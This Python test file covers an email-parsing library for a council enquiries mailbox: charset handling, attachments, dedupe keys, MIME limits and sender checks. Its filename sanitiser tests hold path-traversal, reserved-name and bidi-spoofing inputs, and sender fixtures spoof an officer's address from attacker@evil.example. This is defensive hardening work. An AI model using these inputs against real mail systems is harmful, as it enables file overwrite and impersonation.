@pytest.mark.parametrize("newline", [b"\r\n", b"\n"], ids=["crlf", "lf"])
def test_attached_emails_are_kept_byte_for_byte_as_eml_files(newline: bytes) -> None:
    raw = load("member_forwards_resident_emails_as_attachments.eml").replace(b"\r\n", newline)
    boundary = b"_002_AS8PR03MB6939C0FFEE11D2E7A8C44B0F6E3B1A8AS8PR03MB6939eurp_"
    _text, linda, tom = source_parts(raw, boundary, newline)
    parsed = parse(raw)
    assert [a.payload for a in parsed.attachments] == [linda, tom]
    # The long Message-ID header is not refolded, the line endings are the source's.
    assert b"\nMessage-ID: <CAH4x9qP3mYk2v0Lw8Zr1T6nB5dQ7sX9fJ3eU2gA4hK8pC1wR0Q@" in linda


def test_an_attached_email_is_one_attachment_not_flattened() -> None:
    parsed = parse(load("member_forwards_resident_emails_as_attachments.eml"))
    assert [a.content_type for a in parsed.attachments] == ["message/rfc822"] * 2
    assert "Linda Marsh" not in parsed.body_text  # the inner body is not the outer body
    inner = parse(parsed.attachments[1].payload)
    assert inner.subject == "Route 47 timetable from September"
    assert inner.from_address == "t.fielding@example-isp.invalid"
    assert inner.message_id == "000001db5e3f$6a1c2b90$3e548300$@example-isp.invalid"
    assert "since\nSeptember it has come at 07:40" in inner.body_text
    assert summary(inner) == [Att("Route 47 timetable.pdf", "application/pdf", TIMETABLE_PDF)]


# --- 12. receipt time ----------------------------------------------------------------------


def test_received_at_is_from_the_topmost_received_header_not_date() -> None:
    raw = load("received_time_differs_from_date_header.eml")
    parsed = parse(raw)
    hops = message_from_bytes(raw).get_all("Received")
    assert len(hops) == 3 and hops[0].rstrip().endswith("08:02:47 +0000 (GMT)")
    assert parsed.received_at == datetime(2026, 11, 23, 8, 2, 47)
    assert parsed.received_at - parsed.date == datetime(2026, 11, 23, 8, 2, 47) - datetime(
        2026, 11, 21, 17, 41, 5
    )
    assert parsed.received_at.tzinfo is None and parsed.date.tzinfo is None


# --- 13. base64 and missing or wrong charsets ----------------------------------------------


FLY_TIPPING = load("member_enquiry_unknown_8bit_charset.eml")
FLY_TIPPING_TEXT = CASES[NEW_FIXTURES.index("member_enquiry_unknown_8bit_charset.eml")].body_text


@pytest.mark.parametrize(
    "content_type",
    [
        b"text/plain; charset=unknown-8bit",
        b"text/plain; charset=windows-1252",
        b"text/plain; charset=iso-8859-1",
        b'text/plain; charset="utf-8"',  # wrong: the bytes are windows-1252
        b"text/plain; charset=us-ascii",
        b"text/plain; charset=x-no-such-charset",
        b'text/plain; charset=""',
        b"text/plain",
    ],
)
def test_undeclared_or_wrong_charsets_still_read_sensibly(content_type: bytes) -> None:
    raw = FLY_TIPPING.replace(b"Content-Type: text/plain; charset=unknown-8bit",
                              b"Content-Type: " + content_type)  # fmt: skip
    assert raw.count(b"Content-Type: " + content_type) == 1
    assert parse(raw).body_text == FLY_TIPPING_TEXT


WHEELCHAIR = load("member_enquiry_base64_utf8_text_body.eml")
WHEELCHAIR_TEXT = CASES[NEW_FIXTURES.index("member_enquiry_base64_utf8_text_body.eml")].body_text
WHEELCHAIR_B64 = WHEELCHAIR.index(b"Qm9yZSBkYSwK")  # "Bore da,\n" starts the text/plain part


def test_base64_with_a_junk_line_reads_the_same() -> None:
    at = WHEELCHAIR_B64 + 2 * 78  # after two full lines of base64
    raw = WHEELCHAIR[:at] + b"~~ *** ~~\r\n" + WHEELCHAIR[at:]
    assert parse(raw).body_text == WHEELCHAIR_TEXT


@pytest.mark.parametrize("cut", [21, 26, 29, 201, 401])
def test_base64_text_cut_off_mid_transfer_is_read_as_far_as_it_goes(cut: int) -> None:
    """The email ends inside the base64 (no closing boundary): 21, 29 and 201 end one
    character into a group of four, which the email package hands back undecoded."""
    sent = WHEELCHAIR[WHEELCHAIR_B64 : WHEELCHAIR_B64 + cut]
    whole_groups = len(re.sub(rb"[^A-Za-z0-9+/]", b"", sent)) // 4
    parsed = parse(WHEELCHAIR[: WHEELCHAIR_B64 + cut] + b"\r\n")
    assert parsed.body_text.startswith("Bore da,\n\nMrs S")
    assert WHEELCHAIR_TEXT.startswith(parsed.body_text)
    assert len(parsed.body_text.encode()) >= whole_groups * 3 - 1  # all of it, bar a "\n"
    assert "CloseBoundaryNotFoundDefect" in parsed.defects


# --- the helpers, table by table -----------------------------------------------------------


FALLBACK = "attachment-1.bin"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("report.pdf", "report.pdf"),
        ("Scan (2).pdf", "Scan (2).pdf"),
        ("archive.tar.gz", "archive.tar.gz"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system.ini", "system.ini"),
        ("C:\\Users\\cllr\\Documents\\minutes.docx", "minutes.docx"),
        ("/etc/cron.d/job", "job"),
        (".htaccess", "htaccess"),
        ("..", FALLBACK),
        ("...", FALLBACK),
        ("///", FALLBACK),
        ("???", FALLBACK),
        ("   ", FALLBACK),
        ("", FALLBACK),
        (None, FALLBACK),
        ('a:b*c?d"e<f>g|h.txt', "a_b_c_d_e_f_g_h.txt"),
        ("bad\x00name.pdf", "badname.pdf"),
        ("bell\x07\x1b[31m.pdf", "bell[31m.pdf"),
        ("csi\x9b31m.pdf", "csi31m.pdf"),
        ("del\x7f.pdf", "del.pdf"),
        ("tab\tand\nnewline.pdf", "tab and newline.pdf"),
        ("report.pdf.", "report.pdf"),
        ("report.pdf   ", "report.pdf"),
        ("CON.txt", "_CON.txt"),
        ("nul", "_nul"),
        ("NUL.tar.gz", "_NUL.tar.gz"),
        ("lpt1.doc", "_lpt1.doc"),
        ("console.txt", "console.txt"),
        ("com10.txt", "com10.txt"),
        ("=?utf-8?Q?Caf=C3=A9_licence.pdf?=", "Café licence.pdf"),
        ("=?utf-8?Q?=2E=2E=2F=2E=2E=2Fsecret.txt?=", "secret.txt"),
        ("e\u0301cole.pdf", "\u00e9cole.pdf"),  # NFC
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # shown as "invoiceexe.pdf" if kept
        ("\u2067report\u2069\u200f.pdf", "report.pdf"),
        ("Minutes 12.11.2026 meeting with residents", "Minutes 12.11.2026 meeting with residents"),
        ("St. Mary's School transport appeal", "St. Mary's School transport appeal"),
    ],
)
def test_sanitise_filename(name: str | None, expected: str) -> None:
    assert sanitise_filename(name, fallback=FALLBACK) == expected


@pytest.mark.parametrize(
    ("name", "max_length", "expected"),
    [
        ("a" * 300 + ".pdf", 120, "a" * 116 + ".pdf"),
        ("a" * 300, 120, "a" * 120),
        ("Annual report.pdf", 16, "Annual repor.pdf"),
        ("A long name . . . .pdf", 10, "A long.pdf"),
        ("x." + "b" * 40, 20, "x." + "b" * 18),  # 40 characters after a dot: no extension
        ("é" * 200 + ".docx", 255, "é" * 200 + ".docx"),
    ],
)
def test_sanitise_filename_caps_the_length(name: str, max_length: int, expected: str) -> None:
    assert sanitise_filename(name, fallback=FALLBACK, max_length=max_length) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<abc@example.invalid>", "abc@example.invalid"),
        ("  <abc@example.invalid>\r\n", "abc@example.invalid"),
        ("abc@example.invalid", "abc@example.invalid"),
        ("<CAF+x=1/2@mail.gmail.example>", "CAF+x=1/2@mail.gmail.example"),
        (
            "<000001db5e3f$6a1c2b90$3e548300$@example-isp.invalid>",
            "000001db5e3f$6a1c2b90$3e548300$@example-isp.invalid",
        ),
        ("<a@example.invalid> <b@example.invalid>", "a@example.invalid"),
        ("garbage <x@example.invalid> (comment)", "x@example.invalid"),
        ("<>", None),
        ("", None),
        (None, None),
        ("   ", None),
        ("not an id", None),
        ("<has space@example.invalid>", None),
    ],
)
def test_normalise_message_id(value: str | None, expected: str | None) -> None:
    assert normalise_message_id(value) == expected


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>1. The bus was late.</p><p>2. The driver was rude.</p>",
         "1. The bus was late.\n\n2. The driver was rude."),
        ("<p>- not gritted</p><p>+ extra</p>", "- not gritted\n\n+ extra"),
        ("<div>-----Original Message-----<br>From: Resident</div>",
         "-----Original Message-----\nFrom: Resident"),
        ("<p>x</p><p>&nbsp;</p><p>y</p>", "x\n\ny"),
        ("<div>line one<br>line two</div><div>next</div>", "line one\nline two\n\nnext"),
        ("<table><tr><td>Name</td><td>Ref</td></tr><tr><td>Mrs Hughes</td><td>AB123</td></tr>"
         "</table>", "Name Ref\nMrs Hughes AB123"),
        ("<p>&pound;1,240 &amp; &lt;b&gt; &#8217; &eacute;</p>", "£1,240 & <b> ’ é"),
        ("<head><style>p{color:red}</style></head><p>Hello</p>", "Hello"),
        ("<p><img src='cid:image001.png@01DB' alt='logo'>Hello</p>", "Hello"),
        ("<p>See <a href='https://www.example-county.gov.uk/roads'>roads</a></p>",
         "See [roads](https://www.example-county.gov.uk/roads)"),
        ("<p>Ref A4304 - see C:\\Temp\\x.doc and 3 * 4</p>",
         "Ref A4304 - see C:\\Temp\\x.doc and 3 * 4"),
        ("<p><b>bold</b> <i>it</i></p>\n\n\n\n<p>B</p>", "bold it\n\nB"),
    ],
)  # fmt: skip
def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    ("data", "charset", "text"),
    [
        (b"caf\xc3\xa9", "utf-8", "café"),
        (b"caf\xc3\xa9", None, "café"),
        (b"caf\xe9", None, "café"),
        (b"caf\xe9", "utf-8", "café"),  # wrong label
        (b"caf\xc3\xa9", "us-ascii", "café"),  # wrong label
        (b"\x93q\x94 \x96 \x80", "iso-8859-1", "“q” – €"),  # Outlook's "ISO" text
        (b"\x93q\x94", "latin1", "“q”"),
        (b"\x93q\x94", "windows-1252", "“q”"),
        (b"\xa4", "iso-8859-15", "€"),
        (b"\x8e\x9e", "cp1250", "Žž"),
        (b"\x80", "x-bogus", "€"),
        (b"caf\xe9", '"ISO-8859-1"', "café"),
        (b"a\x00b", "utf-8", "ab"),
    ],
)
def test_decode_bytes(data: bytes, charset: str | None, text: str) -> None:
    assert decode_bytes(data, charset) == text


def test_a_damaged_encoded_word_never_makes_parse_raise() -> None:
    # "_" is not base64: the stdlib raises HeaderParseError (a MessageError) on this subject.
    raw = (
        b"From: a@b.example\r\nSubject: =?UTF-8?B?UG90aG9sZ_BvbiBNaWxsIExhbmU=?= "
        b"=?iso-8859-1?Q?caf=\t9?=\r\nMessage-ID: <x@y.example>\r\n\r\nhi\r\n"
    )
    parsed = parse(raw)
    assert parsed.subject  # kept as readable as it can be, never an exception
    assert parsed.body_text.strip() == "hi"


# --- the sender, as mail servers read it ------------------------------------------------

PRIYA = "priya.shah@example.gov.uk"
NOT_PRIYA = f"the From header shows {PRIYA} but the address is attacker@evil.example"
SENDERS = [
    # fixture, From address, display name, why there is no one sender
    ("officer_reply_outlook_desktop_top_posted.eml", PRIYA, "Priya Shah", None),
    ("outlook_encoded_display_name_surname_comma_forename.eml", PRIYA, "Shah, Priyä", None),
    ("display_name_is_the_senders_own_address.eml", PRIYA, "Priya.Shah@example.gov.uk", None),
    ("attack_reply_to_and_sender_name_officer_from_stranger.eml", "attacker@evil.example",
     "Priya Shah", None),
    ("attack_from_encoded_word_shows_officer_address.eml", None, None, NOT_PRIYA),
    ("attack_from_display_name_is_officer_address.eml", None, None, NOT_PRIYA),
    ("attack_two_from_headers_officer_and_attacker.eml", None, None,
     "the message has 2 From headers"),
    ("attack_from_names_officer_and_attacker_mailboxes.eml", None, None,
     f"the From header names 2 addresses: {PRIYA}, attacker@evil.example"),
]  # fmt: skip


@pytest.mark.parametrize(("fixture", "address", "name", "problem"), SENDERS)
def test_the_sender_is_the_mailbox_mail_servers_see(
    fixture: str, address: str | None, name: str | None, problem: str | None
) -> None:
    """Encoded words are decoded inside the display name only, after the structure is read:
    an encoded `priya.shah@example.gov.uk` is a name, never the address."""
    parsed = parse(load(fixture))
    assert (parsed.from_address, parsed.from_name, parsed.sender_problem) == (
        address,
        name,
        problem,
    )


DISPLAY_NAMES = [
    "=?utf-8?B?TcO8bGxlciwgQmVybmQ=?= <bernd.mueller@example.de>",  # "Müller, Bernd"
    "=?iso-8859-1?Q?Sm=EDth=2C_J=E1ne?= <jane@example.org>",  # "Smíth, Jáne"
    '"Smith, Jane (Cllr)" <cllr.jane.smith@example.gov.uk>',
    "=?utf-8?q?O=27Brien=2C_=22Pat=22?= <pat@example.org>",  # O'Brien, "Pat"
    "=?utf-8?q?Jane_=3Cnot_an_address=3E?= <jane@example.org>",  # angle brackets, encoded
    "=?utf-8?B?5byg5LiJ?= <zhang@example.cn>",
    "jane@example.org",
    "Jane Smith <Jane.Smith@Example.GOV.UK>",
    '"Smith, Jane <Cllr>" <jane@example.org>',  # comma and angle brackets, quoted
    '"=?utf-8?q?M=C3=BCller=2C_Bernd?=" <bernd@example.de>',  # encoded word in quotes
    "=?utf-8?B?IkfDvG50ZXIsIEFubmEiIDxBbm5hPg==?= <anna@example.de>",  # '"Günter, Anna" <Anna>'
    "=?iso-8859-1?q?Dupr=E9=2C_=22Ren=E9=22_=3Cmairie=3E?= <rene@example.fr>",  # all three
    '"O\'Brien, \\"Pat\\"" <pat@example.org>',  # escaped quotes in a quoted string
]


@pytest.mark.parametrize("header", DISPLAY_NAMES)
def test_display_names_parse_as_pythons_email_parses_them(header: str) -> None:
    """Commas, quotes and angle brackets inside encoded display names: the address and the
    name are the ones Python's own `email` (policy.default) reads."""
    raw = (
        f"From: {header}\r\nTo: enquiries@example.gov.uk\r\nSubject: x\r\n"
        "Message-ID: <a@example.org>\r\n\r\nBody\r\n"
    ).encode()
    [expected] = message_from_bytes(raw, policy=email.policy.default)["From"].addresses
    parsed = parse(raw)
    assert parsed.from_address == expected.addr_spec.lower()
    assert parsed.from_name == (expected.display_name or None)
    assert parsed.sender_problem is None


# --- bounded work per message -----------------------------------------------------------


def test_same_named_attachments_are_numbered_in_turn() -> None:
    unique = UniqueNames(max_length=20)
    names = [unique(n) for n in ["a.pdf", "A.PDF", "a (2).pdf", "a.pdf", "notes", "notes"]]
    assert names == ["a.pdf", "A (2).PDF", "a (2) (2).pdf", "a (3).pdf", "notes", "notes (2)"]
    long = UniqueNames(max_length=12)
    assert [long("abcdefghij.pdf") for _ in range(3)] == [
        "abcdefghij.pdf",
        "abcd (2).pdf",
        "abcd (3).pdf",
    ]


def test_a_message_under_the_parts_limit_is_read_whole_with_every_name_unique() -> None:
    parsed = parse(many_parts(MAX_PARTS - 2))
    names = [a.filename for a in parsed.attachments]
    assert parsed.too_complex is None
    assert len(names) == len(set(names)) == MAX_PARTS - 2
    assert names[:3] == ["image.png", "image (2).png", "image (3).png"]


def test_twenty_thousand_parts_are_too_complex_and_read_only_up_to_the_limit() -> None:
    """It took 143 s to parse: now the walk stops at the limit, and routing quarantines it."""
    parsed = parse(many_parts(20_000))
    assert parsed.too_complex == f"more than {MAX_PARTS} MIME parts"
    assert parsed.attachments == ()  # the tree was given up on at the limit, not read whole
    assert f"more than {MAX_PARTS} MIME parts: only the header was read" in parsed.defects


def test_five_thousand_parts_under_a_raised_limit_are_read_whole_with_unique_names() -> None:
    """[mailbox] max_parts raised: every part read, each name made unique in O(1)."""
    parsed = parse(many_parts(5_000), max_parts=6_000)
    names = [a.filename for a in parsed.attachments]
    assert parsed.too_complex is None
    assert len(names) == len(set(names)) == 5_000
    assert names[-1] == "image (5000).png"


def nested(depth: int) -> bytes:
    head = b"From: cllr.jane.smith@example.gov.uk\r\nSubject: Deep\r\nMIME-Version: 1.0\r\n"
    body = b"Content-Type: text/plain\r\n\r\nAt the bottom.\r\n"
    for level in range(depth):
        b = f"l{level}".encode()
        body = (
            b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n--' + b + b"\r\n"
            + body + b"--" + b + b"--\r\n"
        )  # fmt: skip
    return head + body


def test_nesting_deeper_than_the_configured_depth_is_too_complex() -> None:
    assert parse(nested(8), max_depth=10).too_complex is None
    deep = parse(nested(12), max_depth=10)
    assert deep.too_complex == "MIME nesting deeper than 10 levels"


# --- lose nothing: one message or two, charsets, damaged names ---------------------------


@pytest.mark.parametrize(
    ("first", "second", "same"),
    [
        # A relay added Received, Delivered-To and an X- header and re-encoded the 8-bit body
        # as quoted-printable: the same email.
        ("same_message_delivered_twice_with_extra_received_first.eml",
         "same_message_delivered_twice_with_extra_received_second.eml", True),
        # A phone app that gives every email it sends one Message-ID: two emails.
        ("message_id_reused_with_different_body_first.eml",
         "message_id_reused_with_different_body_second.eml", False),
        ("message_id_reused_with_different_body_first.eml",
         "message_id_reused_by_unknown_sender.eml", False),
    ],
)  # fmt: skip
def test_the_dedupe_key_is_the_message_id_and_what_the_message_says(
    first: str, second: str, same: bool
) -> None:
    a, b = parse(load(first)), parse(load(second))
    assert a.message_id == b.message_id is not None and a.raw_sha256 != b.raw_sha256
    assert (a.dedupe_key == b.dedupe_key) is same
    assert a.dedupe_key == f"{a.message_id} content:{a.content_sha256}"


def _changed(raw: bytes, old: bytes, new: bytes) -> bytes:
    assert raw.count(old) == 1, old
    return raw.replace(old, new)


DAMAGED = load("raw_utf8_filename_with_damaged_last_byte.eml")


@pytest.mark.parametrize(
    ("change", "same"),
    [
        (lambda r: b"Received: from relay9.example.net by mx.example.gov.uk; "
                   b"Wed, 02 Dec 2026 15:50:01 +0000\n" + r, True),
        (lambda r: _changed(r, b"Return-Path: <noreply@report-it.example.gov.uk>",
                            b"Return-Path: <bounces+x@report-it.example.gov.uk>"), True),
        (lambda r: b"X-Spam-Score: 0.4\nDelivered-To: enquiries@example.gov.uk\n" + r, True),
        (lambda r: _changed(r, b"Date: Wed, 02 Dec 2026 15:47:12 +0000",
                            b"Date: Wed, 02 Dec 2026 15:49:00 +0000"), True),
        (lambda r: _changed(r, b"breaking up.", b"breaking up!"), False),
        (lambda r: _changed(r, b"Subject: Photos of", b"Subject: Photo of"), False),
        (lambda r: _changed(r, b"/f7//9k=", b"/f7+/9k="), False),  # one byte of the photo
        (lambda r: _changed(r, b"To: enquiries@", b"To: highways@"), False),
    ],
    ids=["received", "return-path", "x-header", "date", "body", "subject", "attachment", "to"],
)  # fmt: skip
def test_trace_headers_leave_the_content_hash_alone_and_content_changes_it(
    change: object, same: bool
) -> None:
    changed = change(DAMAGED)  # type: ignore[operator]
    assert changed != DAMAGED
    assert (parse(changed).dedupe_key == parse(DAMAGED).dedupe_key) is same


def test_gb2312_label_with_gbk_characters_is_read_as_gbk() -> None:
    """Outlook labels Simplified Chinese `gb2312` and writes GBK: 喆 and 镕 are not in
    GB2312. The Encoding Standard reads the label as GBK, as browsers and Thunderbird do."""
    parsed = parse(load("gb2312_label_with_gbk_characters.eml"))
    assert parsed.subject == "Fwd: 路灯坏了 - 王喆先生, Gartree Road"
    assert "Mr Wang Zhe (王喆) wrote to me in Chinese" in parsed.body_text
    assert "邻居朱镕先生也这么说。请帮忙联系市政。谢谢！" in parsed.body_text


@pytest.mark.parametrize(
    ("data", "label", "text"),
    [
        ("王喆".encode("gbk"), "gb2312", "王喆"),
        ("王喆".encode("gbk"), "GB_2312-80", "王喆"),
        ("王喆".encode("gb18030"), "x-gbk", "王喆"),
        ("€".encode("gb18030"), "gb2312", "€"),  # GBK's 0x80
        (b"\x80 \x93ok\x94", "iso-8859-1", "€ “ok”"),
        (b"\x80", "ascii", "€"),  # ASCII with 8-bit bytes is no ASCII: windows-1252
        (b"\x80", "tis-620", "€"),  # windows-874
        (b"\xa4", "iso-8859-15", "€"),
        ("똠".encode("cp949"), "ks_c_5601-1987", "똠"),  # not in KS X 1001: Windows' cp949
        ("①".encode("cp932"), "shift_jis", "①"),  # an NEC extension: Windows' cp932
        ("Ẁ".encode("utf-7"), "utf-7", "Ẁ"),  # not in the standard: Python's codec
        ("한".encode("iso2022_kr"), "iso-2022-kr", "한"),  # "replacement" there: Python's
    ],
)
def test_charset_labels_follow_the_whatwg_encoding_standard(
    data: bytes, label: str, text: str
) -> None:
    assert decode_bytes(data, label) == text


@pytest.mark.parametrize(
    ("data", "charset", "text"),
    [
        ("Straße Brü".encode()[:-1], None, "Straße Br\ufffd"),
        ("Straße Brü".encode()[:-1], "utf-8", "Straße Br\ufffd"),
        (b"M\xfcller \xc3", None, "Müller Ã"),  # no good UTF-8 at all: windows-1252
        ("王喆".encode("gbk") + b"\x81", "gb2312", "王喆\ufffd"),  # a GBK text cut short
    ],
)
def test_damaged_text_keeps_its_good_characters(
    data: bytes, charset: str | None, text: str
) -> None:
    assert decode_bytes(data, charset) == text


def test_raw_utf8_filename_with_damaged_last_byte_keeps_its_good_characters() -> None:
    """A portal cut the name in the middle of the "ü" of "Brücke": only that byte is lost."""
    [photo] = parse(load("raw_utf8_filename_with_damaged_last_byte.eml")).attachments
    assert photo.filename == "Fotos Straßenschäden Mühlenweg Br\ufffd.jpg"
    assert photo.content_type == "image/jpeg"


@pytest.mark.parametrize(
    ("param", "name"),
    [
        ("filename*=gb2312''%CD%F5%86%B4%B5%C4%D0%C5.pdf", "王喆的信.pdf"),  # GBK under gb2312
        ("filename*=iso-8859-1''%93Antwort%94 %80.txt", "“Antwort” €.txt"),  # windows-1252
        ("filename*=utf-8''Br%C3%BCcke%C3.jpg", "Brücke\ufffd.jpg"),  # damaged: its good part
    ],
)
def test_rfc2231_file_names_are_read_in_their_charset_as_text_is(param: str, name: str) -> None:
    raw = (
        "From: cllr.jane.smith@example.gov.uk\r\nTo: enquiries@example.gov.uk\r\n"
        "Subject: x\r\nMessage-ID: <n@example.gov.uk>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        "Content-Type: text/plain\r\n\r\nSee attached.\r\n--b\r\n"
        f"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; {param}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\nAAEC\r\n--b--\r\n"
    ).encode()
    [attachment] = parse(raw).attachments
    assert attachment.filename == name


def test_a_message_id_too_long_for_the_key_is_named_by_its_hash() -> None:
    long_id = "x" * 960 + "@example.org"
    raw = f"From: a@example.org\r\nMessage-ID: <{long_id}>\r\n\r\nHello\r\n".encode()
    parsed = parse(raw)
    assert parsed.message_id == long_id
    assert len(parsed.dedupe_key) <= 998
    assert parsed.dedupe_key.startswith("id-sha256:")
    assert parsed.dedupe_key.endswith(f" content:{parsed.content_sha256}")
